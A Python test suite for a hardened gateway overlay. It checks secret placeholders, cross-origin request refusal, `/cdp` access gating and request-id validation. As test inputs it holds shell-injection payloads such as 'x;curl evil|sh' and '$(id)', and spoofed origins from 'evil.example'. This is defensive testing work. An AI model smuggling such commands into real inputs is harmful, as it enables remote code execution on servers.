"""What comes in: the app behind the guard, what it hands to the container, `/cdp`, and foreign pages."""

import json

from worker import CONTAINER, HOST, REAL, SHOWN, Worker, ours

SECRETS = {name: value for name, value in REAL.items() if name != "MOLTBOT_GATEWAY_TOKEN"}
EVIL = {"origin": "https://evil.example"}
UPGRADE = {"upgrade": "websocket"}
POST = {"content-type": "application/json"}


def holds_real(kept):
    return sorted(name for name, value in SECRETS.items() if value in json.dumps(kept))


def check_environment(checks, hardened, stock):
    """What the app's own `gatewayEnvironment` and its rclone configuration give to the container."""
    _, kept, _ = hardened.enters("/")
    given = next((it["env"] for it in kept if it.get("env")), {})
    wanted = {name: SHOWN[name] for name in SHOWN} | {"OPENCLAW_GATEWAY_TOKEN": REAL["MOLTBOT_GATEWAY_TOKEN"]}
    checks.same("the container is started with placeholders, and with the gateway's token, which it checks itself",
                {name: given.get(name) for name in wanted}, wanted)
    checks.same("no other variable holds a real one", holds_real(kept), [])
    _, kept, _ = stock.enters("/")
    checks.same("  without the overlay it is started with all of them", holds_real(kept), sorted(SECRETS))
    path = "/api/admin/storage/sync"
    _, kept, _ = hardened.enters(path, "POST")
    conf = next((it["content"] for it in kept if "rclone.conf" in it.get("path", "")), "")
    checks.that("rclone is configured with placeholders", SHOWN["R2_SECRET_ACCESS_KEY"] in conf and not holds_real(kept), kept)
    _, kept, _ = stock.enters(path, "POST")
    checks.same("  without the overlay with the bucket's keys", holds_real(kept), ["R2_ACCESS_KEY_ID", "R2_SECRET_ACCESS_KEY"])
    variables = hardened.ask("/process")
    checks.same("`process.env` holds placeholders", (holds_real(variables), variables.get("ANTHROPIC_API_KEY")),
                ([], SHOWN["ANTHROPIC_API_KEY"]))
    checks.same("  without the overlay the values", holds_real(stock.ask("/process")), sorted(SECRETS))


def foreign():
    """Name, path, method, headers: what another page may not do with somebody's cookie."""
    return [
        ("a WebSocket from another page", "/", "GET", UPGRADE | EVIL),
        ("a WebSocket from a page without an origin", "/", "GET", UPGRADE | {"origin": "null"}),
        ("a WebSocket of a look-alike", "/", "GET", UPGRADE | {"origin": f"https://{HOST}.evil.example"}),
        ("a WebSocket of the same host without TLS", "/", "GET", UPGRADE | {"origin": f"http://{HOST}"}),
        ("an admin's action from another page", "/api/admin/gateway/restart", "POST", POST | EVIL),
        ("the same with doubled slashes", "//api//admin/gateway/restart", "POST", POST | EVIL),
        ("the same with an escaped letter", "/api/%61dmin/storage/sync", "POST", POST | EVIL),
        ("a command by a link on another page", "/debug/cli?cmd=id", "GET", {"sec-fetch-site": "cross-site"}),
        ("a command from another Worker of the account", "/debug/cli?cmd=id", "GET", {"sec-fetch-site": "same-site"}),
    ]


def check_origins(checks, hardened, stock):
    for name, path, method, headers in foreign():
        answer, kept, lines = hardened.enters(path, method, headers)
        logged = [(it["moltctl"], it["reason"]) for it in ours(lines)]
        checks.that(f"refused, and nothing runs: {name}", answer["status"] == 403 and not kept
                    and logged == [("entrance.deny", "origin")], f"{answer}\n{kept}\n{lines}")
        if "//" in path:
            continue  # The sample's router has no such route, others have.
        answer, kept, _ = stock.enters(path, method, headers)
        checks.that(f"  without the overlay it goes through: {name}", answer["status"] in (101, 200) and kept, f"{answer}\n{kept}")
    good = [
        ("a WebSocket of the Worker's own page", "/", "GET", UPGRADE | {"origin": f"https://{HOST}"}, 101),
        ("a WebSocket of a page that the policy names", "/", "GET", UPGRADE | {"origin": "https://agent.example.com"}, 101),
        ("a WebSocket of a program", "/", "GET", UPGRADE, 101),
        ("an admin's action from the Worker's own page", "/api/admin/gateway/restart", "POST",
         POST | {"origin": f"https://{HOST}", "sec-fetch-site": "same-origin"}, 200),
        ("a program's action", "/api/admin/gateway/restart", "POST", POST, 200),
        ("a page that somebody opens", "/", "GET", {"sec-fetch-site": "cross-site"}, 200),
    ]
    for name, path, method, headers, status in good:
        answer, kept, _ = hardened.enters(path, method, headers)
        checks.that(f"let in: {name}", answer["status"] == status and kept, f"{answer}\n{kept}")


def check_ids(checks, hardened, stock):
    hostile = ["x%3Bcurl%20evil%7Csh", "x;curl", "$(id)", "%24%28id%29", "x%253Bcurl", "a" * 65, "x%0aid", "-%2Fx"]
    for text in hostile:
        path = f"/api/admin/devices/{text}/approve"
        answer, kept, lines = hardened.enters(path, "POST")
        checks.that(f"a request id that is no word is refused, and nothing runs ({text[:20]})",
                    answer["status"] == 400 and not kept and [it["reason"] for it in ours(lines)] == ["request-id"],
                    f"{answer}\n{kept}\n{lines}")
    for path in ("/api/%61dmin/devices/x%3Bcurl/approve", "/API/admin/devices/x;curl/approve"):
        answer, kept, _ = hardened.enters(path, "POST")
        checks.that(f"in whatever way the path is written ({path[:24]})", answer["status"] == 400 and not kept, f"{answer}\n{kept}")
    _, kept, _ = stock.enters(f"/api/admin/devices/{hostile[0]}/approve", "POST")
    checks.that("  without the overlay it reaches a shell", any("approve x;curl evil|sh" in it.get("command", "") for it in kept), kept)
    _, kept, _ = hardened.enters("/api/admin/devices/req-1_A/approve", "POST")
    checks.that("a request id that is one is approved", any("approve req-1_A " in it.get("command", "") for it in kept), kept)


def version(secret, host=HOST):
    return f"https://{host}/cdp/json/version?secret={secret}"


def check_gate(checks, builds, hardened, stock):
    """Who reaches `/cdp` at all."""
    answer, _, lines = hardened.leaves(version(SHOWN["CDP_SECRET"]))
    told = answer.get("body", "")
    checks.that("the container reaches `/cdp` with its placeholder and sees no other secret", answer["status"] == 200
                and SHOWN["CDP_SECRET"] in told and not holds_real(answer), f"{answer}\n{lines}")
    for name, secret in (("the real secret", REAL["CDP_SECRET"]), ("none", "")):
        answer, _, lines = hardened.leaves(version(secret))
        checks.that(f"the container is refused with {name}", answer["status"] == 403
                    and [(it["reason"], it["container"]) for it in ours(lines)] == [("foreign-credential", CONTAINER)], f"{answer}\n{lines}")
    answer, _, lines = hardened.leaves(f"http://{HOST}/cdp/json/version?secret={SHOWN['CDP_SECRET']}")
    checks.that("the container is refused without TLS", answer["status"] == 403
                and [it["reason"] for it in ours(lines)] == ["scheme"], f"{answer}\n{lines}")
    answer, arrived, lines = hardened.leaves(f"https://{HOST}/api/admin/devices")
    checks.that("the container reaches nothing else of the Worker", answer["status"] == 403 and not arrived
                and [it["reason"] for it in ours(lines)] == ["host"], f"{answer}\n{lines}")
    path = f"/cdp/json/version?secret={REAL['CDP_SECRET']}"
    for at in (path, path.replace("/cdp", "/%63dp"), path.replace("/cdp", "//cdp"), "/cdp"):
        answer, _, _ = hardened.enters(at)
        checks.same(f"outside there is no `/cdp`, whoever asks ({at[:12]})", answer["status"], 404)
    answer, _, _ = stock.enters(path)
    checks.that("  without the overlay it is there, and repeats the secret",
                answer["status"] == 200 and REAL["CDP_SECRET"] in answer["body"], answer)
    with Worker(builds["off"], "off") as off:
        answer, _, _ = off.enters(path)
        checks.same("off: outside there is no `/cdp`", answer["status"], 404)
        answer, _, lines = off.leaves(version(SHOWN["CDP_SECRET"]))
        checks.that("off: the container is refused, and that is logged", answer["status"] == 403
                    and [it["reason"] for it in ours(lines)] == ["off"], f"{answer}\n{lines}")
    with Worker(builds["external"], "external") as external:
        for secret, status in ((REAL["CDP_SECRET"], 200), (SHOWN["CDP_SECRET"], 401), ("", 401), ("REAL", 401)):
            answer, _, _ = external.enters(f"/cdp/json/version?secret={secret}")
            checks.same(f"external: `/cdp` answers {status} ({secret[:8]}…)", answer["status"], status)
        answer, _, _ = external.enters(f"/cdp?secret={REAL['CDP_SECRET']}", headers=UPGRADE | EVIL)
        checks.same("external: a page with the secret is still another page", answer["status"], 403)


def check_cron(checks, build):
    with Worker(build, "cron") as worker:
        checks.same("a cron handler gets placeholders as well", worker.ask("/event", event="scheduled"),
                    {"seen": SHOWN["ANTHROPIC_API_KEY"]})
    with Worker(build, "cron-locked", MOLTCTL_LOCKDOWN="1") as worker:
        checks.same("the emergency brake holds it back", worker.ask("/event", event="scheduled"), {"seen": None})


def check(checks, builds):
    check_cron(checks, builds["cron"])
    with Worker(builds["hardened"], "entrance") as hardened, Worker(builds["stock"], "entrance-stock") as stock:
        check_environment(checks, hardened, stock)
        check_origins(checks, hardened, stock)
        check_ids(checks, hardened, stock)
        check_gate(checks, builds, hardened, stock)
